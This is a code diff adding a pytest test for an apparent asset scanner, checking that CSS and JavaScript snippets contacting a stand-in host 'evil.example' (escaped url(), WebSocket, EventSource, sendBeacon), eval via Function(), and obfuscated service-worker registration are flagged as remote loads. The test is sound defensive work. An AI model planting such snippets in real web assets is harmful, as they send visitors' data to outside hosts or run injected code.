@@ -56,6 +56,22 @@ def test_what_looks_like_that_and_is_none_passes(name: str, tmp_path: Path) -> N
     assert found(tmp_path, name) == []
 
 
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("assets/stylesheets/a.css", "a{background:url(https:\\\\\\\\evil.example/x)}"),
+        ("assets/stylesheets/a.css", "a{background:\\75rl(//evil.example/x)}"),
+        ("assets/javascripts/a.js", 'new WebSocket("wss://evil.example")'),
+        ("assets/javascripts/a.js", 'new EventSource("//evil.example")'),
+        ("assets/javascripts/a.js", 'navigator.sendBeacon("//evil.example", "x")'),
+        ("assets/javascripts/a.js", 'Function("x")()'),
+        ("assets/javascripts/a.js", 'navigator["serviceWorker"]["register"]("x")'),
+    ],
+)
+def test_what_loads_from_elsewhere_is_refused(name: str, text: str, tmp_path: Path) -> None:
+    assert found(tmp_path, name, text) == [(f"docs/{name}", "asset-remote")]
+
+
 def test_a_name_of_other_bytes_than_utf8_is_told_and_not_a_traceback(tmp_path: Path) -> None:
     assert ("docs/help/\\xff.html", "file-place") in found(tmp_path, b"help/\xff.html")
 
